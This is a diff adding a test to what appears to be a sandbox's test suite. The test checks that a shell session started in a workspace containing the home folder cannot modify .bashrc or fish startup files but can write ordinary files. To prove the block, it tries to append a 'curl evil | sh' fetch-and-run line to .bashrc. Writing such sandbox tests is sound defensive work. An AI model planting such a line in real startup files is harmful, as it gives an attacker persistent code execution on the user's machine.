@@ -203,6 +203,22 @@ describe.runIf(linux)('sockets of programs outside in the shared temp dir', () =
   });
 });
 
+describe.runIf(linux)('a workspace that holds the home folder', () => {
+  it("keeps the home's startup files read-only (glassbox started in ~ must not plant a .bashrc)", async () => {
+    const homeWs = join(root, 'homews');
+    const user = join(homeWs, 'user');
+    mkdirSync(join(user, '.config', 'fish'), { recursive: true });
+    writeFileSync(join(user, '.bashrc'), '# mine\n');
+    const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: homeWs, glassboxHome: gbHome, env: process.env, userHome: user, tmpDir: tmp });
+    const shell = new BashSession({ cwd: homeWs, env: { ...process.env, HOME: user }, sandbox });
+    shells.push(shell);
+    expect((await shell.run('echo "curl evil | sh" >> user/.bashrc')).exitCode).not.toBe(0);
+    expect((await shell.run('echo x > user/.config/fish/config.fish')).exitCode).not.toBe(0);
+    expect(readFileSync(join(user, '.bashrc'), 'utf8')).toBe('# mine\n');
+    expect((await shell.run('echo ok > user/notes.txt && cat user/notes.txt')).output).toBe('ok');
+  });
+});
+
 describe.runIf(linux)('a git workspace', () => {
   it('commits work, but hooks and config cannot be changed, nor .git renamed away and rebuilt', async () => {
     const repo = join(root, 'repo');
